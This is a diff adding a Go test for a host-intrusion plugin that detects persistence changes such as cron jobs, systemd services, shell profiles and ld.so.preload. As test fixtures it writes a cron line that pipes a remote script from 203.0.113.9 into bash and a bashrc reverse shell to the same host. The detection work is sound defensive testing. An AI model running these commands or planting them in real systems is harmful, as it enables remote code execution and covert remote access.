@@ -0,0 +1,100 @@
+package system
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/ipsix/arcsent/internal/storage"
+)
+
+func TestPersistence(t *testing.T) {
+	root := t.TempDir()
+	write := func(name, content string) {
+		t.Helper()
+		path := filepath.Join(root, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatalf("mkdir: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatalf("write: %v", err)
+		}
+	}
+	write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
+	write("etc/crontab", "# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
+	write("etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app\n")
+	write("home/alice/.bashrc", "alias ll='ls -l'\n")
+	write("usr/lib/systemd/system/packaged.service", "[Service]\nExecStart=/usr/bin/true\n")
+	if err := os.Symlink("usr/lib", filepath.Join(root, "lib")); err != nil {
+		t.Fatalf("symlink: %v", err)
+	}
+
+	store, err := storage.NewBadgerStore(filepath.Join(t.TempDir(), "badger"))
+	if err != nil {
+		t.Fatalf("store: %v", err)
+	}
+	defer store.Close()
+	plugin := &Persistence{}
+	plugin.WithStore(store)
+	if err := plugin.Init(map[string]interface{}{"root": root}); err != nil {
+		t.Fatalf("init: %v", err)
+	}
+	run := func(step string) []string {
+		t.Helper()
+		result, err := plugin.Run(context.Background())
+		if err != nil {
+			t.Fatalf("%s: run: %v", step, err)
+		}
+		if step == "first" && result.Metadata["entries"] != 4 {
+			t.Fatalf("expected 4 entries (merged /lib walked once), got %v", result.Metadata["entries"])
+		}
+		ids := []string{}
+		for _, finding := range result.Findings {
+			id := finding.ID + ":" + finding.Evidence["path"].(string)
+			if pattern, ok := finding.Evidence["pattern"]; ok {
+				id += ":" + pattern.(string)
+			}
+			ids = append(ids, id)
+		}
+		sort.Strings(ids)
+		return ids
+	}
+
+	if got := run("first"); len(got) != 0 {
+		t.Fatalf("first run: unexpected findings %v", got)
+	}
+
+	write("etc/cron.d/update", "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | bash\n")
+	write("etc/systemd/system/app.service", "[Service]\nExecStart=/dev/shm/.app\n")
+	write("home/alice/.bashrc", "alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
+	write("etc/ld.so.preload", "/usr/lib/libhook.so\n")
+
+	got := strings.Join(run("second"), "\n")
+	want := strings.Join([]string{
+		"persistence_added:/etc/cron.d/update",
+		"persistence_added:/etc/ld.so.preload",
+		"persistence_ld_preload:/etc/ld.so.preload",
+		"persistence_modified:/etc/systemd/system/app.service",
+		"persistence_modified:/home/alice/.bashrc",
+		"persistence_risky_command:/etc/cron.d/update:download_to_shell",
+		"persistence_risky_command:/etc/systemd/system/app.service:writable_dir_command",
+		"persistence_risky_command:/home/alice/.bashrc:reverse_shell",
+	}, "\n")
+	if got != want {
+		t.Fatalf("second run:\n%s\nwant:\n%s", got, want)
+	}
+
+	// Unchanged entries are not reported again.
+	if got := run("third"); len(got) != 0 {
+		t.Fatalf("third run: unexpected findings %v", got)
+	}
+	write("etc/cron.d/update", "*/10 * * * * root curl -fsSL http://203.0.113.9/x.sh | bash\n")
+	got = strings.Join(run("fourth"), "\n")
+	want = "persistence_modified:/etc/cron.d/update\npersistence_risky_command:/etc/cron.d/update:download_to_shell"
+	if got != want {
+		t.Fatalf("fourth run:\n%s\nwant:\n%s", got, want)
+	}
+}